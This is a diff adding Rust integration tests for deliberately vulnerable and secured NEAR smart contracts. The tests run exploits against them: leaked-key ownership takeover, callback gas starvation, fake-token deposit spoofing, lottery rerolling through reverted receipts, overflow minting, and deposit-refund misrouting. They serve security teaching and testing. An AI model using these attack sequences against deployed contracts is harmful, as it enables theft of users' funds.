+        .call(vault_contract.id(), "withdraw_near")
+        .args_json(json!({"amount":U128::from(DEPOSIT_AMOUNT)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+
+    /*****============== Limited key takes the contract over ==============*****/
+    let res = leaked_key_owner
+        .call(vault_contract.id(), "set_owner")
+        .args_json(json!({"new_owner":attacker.id()}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Set Owner Failed: {:?}", res.failures());
+
+    let new_owner = vault_contract.view("get_owner").await?.json::<AccountId>().unwrap();
+
+    assert_eq!(&new_owner, attacker.id());
+
+    let res = attacker.call(vault_contract.id(), "pub_toggle_pause").transact().await?;
+
+    assert!(res.is_success(), "Toggle Pause Failed: {:?}", res.failures());
+
+    // The real owner is locked out
+    let res = owner.call(vault_contract.id(), "pub_toggle_pause").transact().await?;
+
+    assert!(res.is_failure(), "Previous owner unpaused the contract");
+
+    let pause_status = vault_contract.view("get_pause_status").await?.json::<bool>().unwrap();
+
+    assert!(pause_status, "Contract is not paused");
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_one_yocto_secured() -> anyhow::Result<()> {
+    let (vault_contract, owner, leaked_key_owner, attacker) = prepare_one_yocto(
+        ONE_YOCTO_CONTRACT_SECURED
+    ).await?;
+
+    /*****============== Limited key can not confirm privileged calls ==============*****/
+    for (method, args) in [
+        ("withdraw_near", json!({"amount":U128::from(DEPOSIT_AMOUNT)})),
+        ("set_owner", json!({"new_owner":attacker.id()})),
+        ("pub_toggle_pause", json!({})),
+    ] {
+        let res = leaked_key_owner
+            .call(vault_contract.id(), method)
+            .args_json(args.clone())
+            .transact().await?;
+
+        assert!(res.is_failure(), "{} succeeded without a deposit", method);
+        assert!(
+            format!("{:?}", res.failures()).contains(
+                "Requires attached deposit of exactly 1 yoctoNEAR"
+            )
+        );
+
+        // Function-call access keys can not attach a deposit, the transaction is rejected
+        let res = leaked_key_owner
+            .call(vault_contract.id(), method)
+            .args_json(args)
+            .deposit(1)
+            .transact().await;
+
+        assert!(res.is_err(), "{} was signed with a function-call key", method);
+    }
+
+    let owner_deposit = vault_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc":owner.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(owner_deposit.0, DEPOSIT_AMOUNT);
+
+    let current_owner = vault_contract.view("get_owner").await?.json::<AccountId>().unwrap();
+
+    assert_eq!(&current_owner, owner.id());
+
+    /*****============== Full access key confirms with 1 yocto ==============*****/
+    let res = owner
+        .call(vault_contract.id(), "withdraw_near")
+        .args_json(json!({"amount":U128::from(DEPOSIT_AMOUNT)}))
+        .deposit(1)
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+
+    let res = owner
+        .call(vault_contract.id(), "pub_toggle_pause")
+        .deposit(1)
+        .transact().await?;
+
+    assert!(res.is_success(), "Toggle Pause Failed: {:?}", res.failures());
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_gas_starvation() -> anyhow::Result<()> {
+    let (splitter_contract, pool_contract, user) = prepare_gas_starvation(
+        GAS_STARVATION_CONTRACT
+    ).await?;
+
+    let validators = validator_ids(MAX_VALIDATORS);
+
+    /*****============== Enough gas: ledger is updated ==============*****/
+    let res = user
+        .call(splitter_contract.id(), "stake")
+        .args_json(json!({"validators": validators, "amount": U128::from(ONE_NEAR)}))
+        .gas(300 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_success(), "Stake Failed: {:?}", res.failures());
+
+    let user_deposit = splitter_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc":user.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(user_deposit.0, DEPOSIT_AMOUNT - ONE_NEAR);
+
+    /*****============== Just enough gas: callback is starved ==============*****/
+    let (gas, res) = stake_with_minimum_gas(
+        &user,
+        &splitter_contract,
+        &pool_contract,
+        &validators
+    ).await?;
+
+    println!("Pool called with {} TGas prepaid", gas / TGAS);
+
+    assert!(res.is_failure(), "Callback was not starved");
+    assert!(format!("{:?}", res.failures()).contains("Exceeded the prepaid gas"));
+
+    // The pool holds 2 NEAR, but only 1 NEAR was debited
+    let total_received = pool_contract
+        .view("get_total_received")
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(total_received.0, 2 * ONE_NEAR);
+
+    let user_deposit = splitter_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc":user.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(user_deposit.0, DEPOSIT_AMOUNT - ONE_NEAR);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_gas_starvation_secured() -> anyhow::Result<()> {
+    let (splitter_contract, pool_contract, user) = prepare_gas_starvation(
+        GAS_STARVATION_CONTRACT_SECURED
+    ).await?;
+
+    let validators = validator_ids(MAX_VALIDATORS);
+
+    /*****============== Not enough gas: rejected up front ==============*****/
+    let res = user
+        .call(splitter_contract.id(), "stake")
+        .args_json(json!({"validators": validators, "amount": U128::from(ONE_NEAR)}))
+        .gas(30 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_failure(), "Stake succeeded with 30 TGas");
+    assert!(format!("{:?}", res.failures()).contains("Not enough gas attached"));
+
+    /*****============== Just enough gas: callback still runs ==============*****/
+    let (gas, res) = stake_with_minimum_gas(
+        &user,
+        &splitter_contract,
+        &pool_contract,
+        &validators
+    ).await?;
+
+    println!("Pool called with {} TGas prepaid", gas / TGAS);
+
+    assert!(res.is_success(), "Callback Failed: {:?}", res.failures());
+
+    let total_received = pool_contract
+        .view("get_total_received")
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    let user_deposit = splitter_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc":user.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(total_received.0, ONE_NEAR);
+    assert_eq!(user_deposit.0, DEPOSIT_AMOUNT - ONE_NEAR);
+
+    let stake = splitter_contract
+        .view("view_stake")
+        .args_json(json!({"beneficiary": user.id(), "validator": validators[0]}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(stake.0, ONE_NEAR / (MAX_VALIDATORS as u128));
+
+    /*****============== Too many validators ==============*****/
+    let res = user
+        .call(splitter_contract.id(), "stake")
+        .args_json(
+            json!({"validators": validator_ids(MAX_VALIDATORS + 1), "amount": U128::from(ONE_NEAR)})
+        )
+        .gas(300 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_failure(), "Stake succeeded with too many validators");
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn gas_starvation_secured_concurrent_stakes() -> anyhow::Result<()> {
+    let (splitter_contract, pool_contract, user) = prepare_gas_starvation(
+        GAS_STARVATION_CONTRACT_SECURED
+    ).await?;
+
+    let validators = validator_ids(2);
+
+    /*****============== Two stakes of the whole deposit in flight ==============*****/
+    // Both stakes are sent before either resolves. The deposit is debited by the first
+    // `stake` call, so the second one is rejected before it reaches the pool.
+    let first = user
+        .call(splitter_contract.id(), "stake")
+        .args_json(json!({"validators": validators, "amount": U128::from(DEPOSIT_AMOUNT)}))
+        .gas(300 * TGAS)
+        .transact_async().await?;
+
+    let second = user
+        .call(splitter_contract.id(), "stake")
+        .args_json(json!({"validators": validators, "amount": U128::from(DEPOSIT_AMOUNT)}))
+        .gas(300 * TGAS)
+        .transact_async().await?;
+
+    let results = [first.wait().await?, second.wait().await?];
+
+    let succeeded = results.iter().filter(|res| res.is_success()).count();
+
+    assert_eq!(succeeded, 1, "Both stakes went through");
+
+    for res in results.iter().filter(|res| res.is_failure()) {
+        assert!(format!("{:?}", res.failures()).contains("Not enough money"));
+    }
+
+    let total_received = pool_contract
+        .view("get_total_received")
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(total_received.0, DEPOSIT_AMOUNT);
+
+    let user_deposit = splitter_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc":user.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(user_deposit.0, 0);
+
+    for validator in validators.iter() {
+        let stake = splitter_contract
+            .view("view_stake")
+            .args_json(json!({"beneficiary": user.id(), "validator": validator}))
+            .await?
+            .json::<U128>()
+            .unwrap();
+
+        assert_eq!(stake.0, DEPOSIT_AMOUNT / 2);
+    }
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_ft_on_transfer() -> anyhow::Result<()> {
+    let (vault_contract, token_contract, fake_token_contract, user, attacker) = prepare_ft_receiver(
+        FT_RECEIVER_CONTRACT
+    ).await?;
+
+    let user_balance = vault_contract
+        .view("view_balance")
+        .args_json(json!({"acc":user.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(user_balance.0, DEPOSIT_AMOUNT / 2);
+
+    /*****============== Fake token reports a transfer ==============*****/
+    let res = attacker
+        .call(fake_token_contract.id(), "exploit")
+        .args_json(json!({"receiver": vault_contract.id(), "amount": U128::from(DEPOSIT_AMOUNT / 2)}))
+        .gas(50 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_success(), "Exploit Failed: {:?}", res.failures());
+
+    let attacker_balance = vault_contract
+        .view("view_balance")
+        .args_json(json!({"acc":attacker.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(attacker_balance.0, DEPOSIT_AMOUNT / 2);
+
+    /*****============== Attacker withdraws the user's wNEAR ==============*****/
+    let res = attacker
+        .call(vault_contract.id(), "withdraw")
+        .args_json(json!({"amount": U128::from(DEPOSIT_AMOUNT / 2)}))
+        .deposit(1)
+        .gas(50 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+
+    let attacker_tokens = token_contract
+        .view("ft_balance_of")
+        .args_json(json!({"account_id":attacker.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(attacker_tokens.0, DEPOSIT_AMOUNT / 2);
+
+    // The vault still owes the user, but holds nothing
+    let vault_tokens = token_contract
+        .view("ft_balance_of")
+        .args_json(json!({"account_id":vault_contract.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(vault_tokens.0, 0);
+
+    let res = user
+        .call(vault_contract.id(), "withdraw")
+        .args_json(json!({"amount": U128::from(DEPOSIT_AMOUNT / 2)}))
+        .deposit(1)
+        .gas(50 * TGAS)
+        .transact().await?;
+
+    // The token transfer fails and `on_withdraw` restores the user's balance
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+    assert!(!res.json::<bool>()?, "User withdrew from an empty vault");
+
+    let user_balance = vault_contract
+        .view("view_balance")
+        .args_json(json!({"acc":user.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(user_balance.0, DEPOSIT_AMOUNT / 2);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_ft_on_transfer_secured() -> anyhow::Result<()> {
+    let (vault_contract, token_contract, fake_token_contract, user, attacker) = prepare_ft_receiver(
+        FT_RECEIVER_CONTRACT_SECURED
+    ).await?;
+
+    /*****============== Fake token is rejected ==============*****/
+    let res = attacker
+        .call(fake_token_contract.id(), "exploit")
+        .args_json(json!({"receiver": vault_contract.id(), "amount": U128::from(DEPOSIT_AMOUNT / 2)}))
+        .gas(50 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_failure(), "Fake token was accepted");
+    assert!(format!("{:?}", res.failures()).contains("Only the vault token is accepted"));
+
+    let attacker_balance = vault_contract
+        .view("view_balance")
+        .args_json(json!({"acc":attacker.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(attacker_balance.0, 0);
+
+    let res = attacker
+        .call(vault_contract.id(), "withdraw")
+        .args_json(json!({"amount": U128::from(DEPOSIT_AMOUNT / 2)}))
+        .deposit(1)
+        .gas(50 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_failure(), "Attacker withdrew without a deposit");
+
+    /*****============== Real deposits still work ==============*****/
+    let res = user
+        .call(vault_contract.id(), "withdraw")
+        .args_json(json!({"amount": U128::from(DEPOSIT_AMOUNT / 2)}))
+        .deposit(1)
+        .gas(50 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+
+    let vault_tokens = token_contract
+        .view("ft_balance_of")
+        .args_json(json!({"account_id":vault_contract.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(vault_tokens.0, 0);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_predictable_randomness() -> anyhow::Result<()> {
+    let (_, lottery_contract, exploit_contract, player, attacker) = prepare_randomness(
+        RANDOMNESS_CONTRACT
+    ).await?;
+
+    /*****============== Honest player ==============*****/
+    let player_balance_before = player.view_account().await?.balance;
+    let mut player_wins = 0;
+
+    for _ in 0..LOTTERY_ROUNDS {
+        let res = player
+            .call(lottery_contract.id(), "bet")
+            .deposit(LOTTERY_TICKET_PRICE)
+            .transact().await?;
+
+        assert!(res.is_success(), "Bet Failed: {:?}", res.failures());
+
+        if res.json::<bool>()? {
+            player_wins += 1;
+        }
+    }
+
+    if player_wins > 0 {
+        let res = player.call(lottery_contract.id(), "claim_prize").transact().await?;
+
+        assert!(res.is_success(), "Claim Failed: {:?}", res.failures());
+    }
+
+    let player_balance_after = player.view_account().await?.balance;
+
+    println!("Honest player won {} of {} tickets", player_wins, LOTTERY_ROUNDS);
+
+    assert!(player_wins < LOTTERY_ROUNDS, "Honest player won every ticket");
+    assert!(player_balance_after < player_balance_before, "Honest player made a profit");
+
+    /*****============== Exploit keeps winning tickets only ==============*****/
+    let balance_before = exploit_contract.as_account().view_account().await?.balance;
+    let mut paid_tickets = 0;
+    let mut exploit_wins = 0;
+
+    for _ in 0..LOTTERY_ROUNDS {
+        let res = attacker
+            .call(exploit_contract.id(), "exploit")
+            .args_json(json!({"lottery": lottery_contract.id()}))
+            .gas(100 * TGAS)
+            .transact().await?;
+
+        assert!(res.is_success(), "Exploit Failed: {:?}", res.failures());
+
+        // The ticket is only paid for when the lottery receipt was not reverted
+        let paid = res
+            .receipt_outcomes()
+            .iter()
+            .any(|outcome| &outcome.executor_id == lottery_contract.id() && outcome.is_success());
+
+        if paid {
+            paid_tickets += 1;
+        }
+
+        if res.json::<bool>()? {
+            exploit_wins += 1;
+        }
+    }
+
+    let balance_after = exploit_contract.as_account().view_account().await?.balance;
+
+    println!(
+        "Exploit attempted {} tickets, paid for {} and won {}",
+        LOTTERY_ROUNDS, paid_tickets, exploit_wins
+    );
+
+    assert!(paid_tickets > 0, "Exploit never paid for a ticket");
+    assert_eq!(exploit_wins, paid_tickets, "Exploit paid for a losing ticket");
+
+    // Every ticket that was kept paid out, losing tickets were refunded
+    assert!(
+        balance_after >=
+            balance_before + (paid_tickets as u128) * (LOTTERY_PRIZE - LOTTERY_TICKET_PRICE)
+    );
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_predictable_randomness_secured() -> anyhow::Result<()> {
+    let (worker, lottery_contract, exploit_contract, player, attacker) = prepare_randomness(
+        RANDOMNESS_CONTRACT_SECURED
+    ).await?;
+
+    /*****============== Commit and reveal can not share a receipt ==============*****/
+    let balance_before = exploit_contract.as_account().view_account().await?.balance;
+
+    for round in 0..LOTTERY_ROUNDS {
+        let secret = format!("exploit-secret-{}", round);
+
+        let res = attacker
+            .call(exploit_contract.id(), "exploit_commit_reveal")
+            .args_json(
+                json!({"lottery": lottery_contract.id(), "commitment": Base64VecU8::from(env::sha256(secret.as_bytes())), "secret": secret})
+            )
+            .gas(100 * TGAS)
+            .transact().await?;
+
+        assert!(res.is_success(), "Exploit Failed: {:?}", res.failures());
+        assert!(!res.json::<bool>()?, "Ticket was kept in round {}", round);
+        assert!(format!("{:?}", res.failures()).contains("Reveal in a later block"));
+    }
+
+    let balance_after = exploit_contract.as_account().view_account().await?.balance;
+
+    assert!(balance_after >= balance_before);
+
+    let has_ticket = lottery_contract
+        .view("has_ticket")
+        .args_json(json!({"acc": exploit_contract.id()}))
+        .await?
+        .json::<bool>()
+        .unwrap();
+
+    assert!(!has_ticket, "Exploit holds a ticket");
+
+    /*****============== Reverted reveal does not reroll ==============*****/
+    let mut player_wins = 0;
+
+    for round in 0..LOTTERY_ROUNDS {
+        let secret = format!("player-secret-{}", round);
+
+        let res = player
+            .call(lottery_contract.id(), "commit")
+            .args_json(json!({"commitment": Base64VecU8::from(env::sha256(secret.as_bytes()))}))
+            .deposit(LOTTERY_TICKET_PRICE)
+            .transact().await?;
+
+        assert!(res.is_success(), "Commit Failed: {:?}", res.failures());
+
+        worker.fast_forward(1).await?;
+
+        // Same trick as the exploit: a losing reveal is reverted by `claim_prize`
+        let res = player
+            .batch(lottery_contract.id())
+            .call(Function::new("reveal").args_json(json!({"secret": secret})))
+            .call(Function::new("claim_prize"))
+            .transact().await?;
+
+        if res.is_success() {
+            player_wins += 1;
+            continue;
+        }
+
+        // The ticket is still there and loses again
+        let res = player
+            .call(lottery_contract.id(), "reveal")
+            .args_json(json!({"secret": secret}))
+            .transact().await?;
+
+        assert!(res.is_success(), "Reveal Failed: {:?}", res.failures());
+        assert!(!res.json::<bool>()?, "Reverted reveal won on retry");
+    }
+
+    println!("Player won {} of {} tickets", player_wins, LOTTERY_ROUNDS);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_overflow() -> anyhow::Result<()> {
+    /*****============== Overflow checks off: tokens are minted ==============*****/
+    let (token_contract, _, attacker, accomplice) = prepare_overflow(
+        OVERFLOW_CONTRACT_UNCHECKED
+    ).await?;
+
+    let res = attacker
+        .call(token_contract.id(), "batch_transfer")
+        .args_json(
+            json!({"receivers": [attacker.id(), accomplice.id()], "amount": U128::from(OVERFLOW_AMOUNT)})
+        )
+        .transact().await?;
+
+    assert!(res.is_success(), "Batch Transfer Failed: {:?}", res.failures());
+
+    for account in [&attacker, &accomplice] {
+        let balance = token_contract
+            .view("view_balance")
+            .args_json(json!({"acc": account.id()}))
+            .await?
+            .json::<U128>()
+            .unwrap();
+
+        assert_eq!(balance.0, OVERFLOW_AMOUNT);
+    }
+
+    let total_supply = token_contract.view("total_supply").await?.json::<U128>().unwrap();
+
+    assert_eq!(total_supply.0, DEPOSIT_AMOUNT);
+
+    /*****============== Overflow checks on: the same call panics ==============*****/
+    let (token_contract, _, attacker, accomplice) = prepare_overflow(OVERFLOW_CONTRACT).await?;
+
+    let res = attacker
+        .call(token_contract.id(), "batch_transfer")
+        .args_json(
+            json!({"receivers": [attacker.id(), accomplice.id()], "amount": U128::from(OVERFLOW_AMOUNT)})
+        )
+        .transact().await?;
+
+    assert!(res.is_failure(), "Overflow did not panic");
+    assert!(format!("{:?}", res.failures()).contains("attempt to multiply with overflow"));
+
+    let balance = token_contract
+        .view("view_balance")
+        .args_json(json!({"acc": attacker.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(balance.0, 0);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_overflow_secured() -> anyhow::Result<()> {
+    for wasm in [OVERFLOW_CONTRACT_SECURED, OVERFLOW_CONTRACT_SECURED_UNCHECKED] {
+        let (token_contract, owner, attacker, accomplice) = prepare_overflow(wasm).await?;
+
+        /*****============== Overflow fails in both profiles ==============*****/
+        let res = attacker
+            .call(token_contract.id(), "batch_transfer")
+            .args_json(
+                json!({"receivers": [attacker.id(), accomplice.id()], "amount": U128::from(OVERFLOW_AMOUNT)})
+            )
+            .transact().await?;
+
+        assert!(res.is_failure(), "Overflow did not panic");
+        assert!(format!("{:?}", res.failures()).contains("Multiplication with overflow"));
+
+        /*****============== Regular batch transfer ==============*****/
+        let res = owner
+            .call(token_contract.id(), "batch_transfer")
+            .args_json(
+                json!({"receivers": [attacker.id(), accomplice.id()], "amount": U128::from(ONE_NEAR)})
+            )
+            .transact().await?;
+
+        assert!(res.is_success(), "Batch Transfer Failed: {:?}", res.failures());
+
+        let owner_balance = token_contract
+            .view("view_balance")
+            .args_json(json!({"acc": owner.id()}))
+            .await?
+            .json::<U128>()
+            .unwrap();
+
+        assert_eq!(owner_balance.0, DEPOSIT_AMOUNT - 2 * ONE_NEAR);
+    }
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn unrefunded_deposit() -> anyhow::Result<()> {
+    let (market_contract, proxy_contract, seller, buyer) = prepare_refund(REFUND_CONTRACT).await?;
+
+    /*****============== Registration keeps the excess ==============*****/
+    let buyer_before = buyer.view_account().await?.balance;
+
+    let res = buyer
+        .call(market_contract.id(), "register")
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_success(), "Register Failed: {:?}", res.failures());
+
+    let buyer_after = buyer.view_account().await?.balance;
+
+    assert!(buyer_before - buyer_after >= ONE_NEAR, "Excess was refunded");
+
+    /*****============== Contract purchase refunds the signer ==============*****/
+    let proxy_before = proxy_contract.as_account().view_account().await?.balance;
+    let buyer_before = buyer.view_account().await?.balance;
+    let seller_before = seller.view_account().await?.balance;
+
+    let res = buyer
+        .call(proxy_contract.id(), "buy")
+        .args_json(
+            json!({"market": market_contract.id(), "item_id": "item-1", "deposit": U128::from(8 * ONE_NEAR)})
+        )
+        .gas(100 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_success(), "Buy Failed: {:?}", res.failures());
+
+    let proxy_after = proxy_contract.as_account().view_account().await?.balance;
+    let buyer_after = buyer.view_account().await?.balance;
+    let seller_after = seller.view_account().await?.balance;
+
+    println!(
+        "Proxy spent {}, signer received {}",
+        proxy_before - proxy_after,
+        (buyer_after as i128) - (buyer_before as i128)
+    );
+
+    // The proxy paid 8 NEAR for a 5 NEAR item, the signer got the 3 NEAR surplus
+    assert!(proxy_before - proxy_after >= 8 * ONE_NEAR - GAS_TOLERANCE);
+    assert!(buyer_after >= buyer_before + 3 * ONE_NEAR - GAS_TOLERANCE);
+    assert_eq!(seller_after, seller_before + ITEM_PRICE);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn unrefunded_deposit_secured() -> anyhow::Result<()> {
+    let (market_contract, proxy_contract, seller, buyer) = prepare_refund(
+        REFUND_CONTRACT_SECURED
+    ).await?;
+
+    /*****============== Registration refunds the excess ==============*****/
+    let buyer_before = buyer.view_account().await?.balance;
+
+    let res = buyer
+        .call(market_contract.id(), "register")
+        .deposit(ONE_NEAR)
+        .transact().await?;
+
+    assert!(res.is_success(), "Register Failed: {:?}", res.failures());
+
+    let buyer_after = buyer.view_account().await?.balance;
+
+    assert!(buyer_before - buyer_after <= REGISTRATION_FEE + GAS_TOLERANCE, "Excess was kept");
+
+    /*****============== Contract purchase refunds the contract ==============*****/
+    let proxy_before = proxy_contract.as_account().view_account().await?.balance;
+    let buyer_before = buyer.view_account().await?.balance;
+    let seller_before = seller.view_account().await?.balance;
+
+    let res = buyer
+        .call(proxy_contract.id(), "buy")
+        .args_json(
+            json!({"market": market_contract.id(), "item_id": "item-1", "deposit": U128::from(8 * ONE_NEAR)})
+        )
+        .gas(100 * TGAS)
+        .transact().await?;
+
+    assert!(res.is_success(), "Buy Failed: {:?}", res.failures());
+
+    let proxy_after = proxy_contract.as_account().view_account().await?.balance;
+    let buyer_after = buyer.view_account().await?.balance;
+    let seller_after = seller.view_account().await?.balance;
+
+    println!("Proxy spent {}", proxy_before - proxy_after);
+
+    // The proxy only paid the price, the signer only paid for gas
+    assert!(proxy_before - proxy_after <= ITEM_PRICE);
+    assert!(proxy_before - proxy_after >= ITEM_PRICE - GAS_TOLERANCE);
+    assert!(buyer_after <= buyer_before);
+    assert_eq!(seller_after, seller_before + ITEM_PRICE);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_transfer_to_missing_account() -> anyhow::Result<()> {
+    let (worker, payout_contract, user) = prepare_transfer(TRANSFER_CONTRACT).await?;
+
+    let missing_account: AccountId = format!("missing.{}", user.id()).parse()?;
+    let implicit_account = implicit_account_id("transfer-test");
+
+    /*****============== Named account that does not exist ==============*****/
+    let res = user
+        .call(payout_contract.id(), "withdraw_to")
+        .args_json(json!({"receiver": missing_account, "amount": U128::from(ONE_NEAR)}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Transfer to a missing account succeeded");
+    assert!(format!("{:?}", res.failures()).contains("AccountDoesNotExist"));
+
+    /*****============== Implicit account below its storage cost ==============*****/
+    let res = user
+        .call(payout_contract.id(), "withdraw_to")
+        .args_json(json!({"receiver": implicit_account, "amount": U128::from(DUST_AMOUNT)}))
+        .transact().await?;
+
+    assert!(res.is_failure(), "Implicit account was created with dust");
+    assert!(format!("{:?}", res.failures()).contains("LackBalanceForState"));
+
+    // Both amounts were refunded to the contract, but the deposit stays debited
+    let user_deposit = payout_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc":user.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(user_deposit.0, DEPOSIT_AMOUNT - ONE_NEAR - DUST_AMOUNT);
+
+    /*****============== Implicit account with enough NEAR ==============*****/
+    let res = user
+        .call(payout_contract.id(), "withdraw_to")
+        .args_json(json!({"receiver": implicit_account, "amount": U128::from(ONE_NEAR)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Transfer Failed: {:?}", res.failures());
+
+    let implicit_balance = worker.view_account(&implicit_account).await?.balance;
+
+    assert_eq!(implicit_balance, ONE_NEAR);
+
+    Ok(())
+}
+
+#[tokio::test]
+async fn exploit_transfer_to_missing_account_secured() -> anyhow::Result<()> {
+    let (worker, payout_contract, user) = prepare_transfer(TRANSFER_CONTRACT_SECURED).await?;
+
+    let missing_account: AccountId = format!("missing.{}", user.id()).parse()?;
+    let implicit_account = implicit_account_id("transfer-test");
+
+    /*****============== Failed transfers are re-credited ==============*****/
+    for (receiver, amount) in [
+        (&missing_account, ONE_NEAR),
+        (&implicit_account, DUST_AMOUNT),
+    ] {
+        let res = user
+            .call(payout_contract.id(), "withdraw_to")
+            .args_json(json!({"receiver": receiver, "amount": U128::from(amount)}))
+            .transact().await?;
+
+        assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+        assert!(!res.json::<bool>()?, "Transfer to {} succeeded", receiver);
+
+        let user_deposit = payout_contract
+            .view("view_near_deposit")
+            .args_json(json!({"acc":user.id()}))
+            .await?
+            .json::<U128>()
+            .unwrap();
+
+        assert_eq!(user_deposit.0, DEPOSIT_AMOUNT);
+    }
+
+    /*****============== Implicit account with enough NEAR ==============*****/
+    let res = user
+        .call(payout_contract.id(), "withdraw_to")
+        .args_json(json!({"receiver": implicit_account, "amount": U128::from(ONE_NEAR)}))
+        .transact().await?;
+
+    assert!(res.is_success(), "Withdraw Failed: {:?}", res.failures());
+    assert!(res.json::<bool>()?, "Transfer to {} failed", implicit_account);
+
+    let implicit_balance = worker.view_account(&implicit_account).await?.balance;
+
+    assert_eq!(implicit_balance, ONE_NEAR);
+
+    let user_deposit = payout_contract
+        .view("view_near_deposit")
+        .args_json(json!({"acc":user.id()}))
+        .await?
+        .json::<U128>()
+        .unwrap();
+
+    assert_eq!(user_deposit.0, DEPOSIT_AMOUNT - ONE_NEAR);
+
+    Ok(())
+}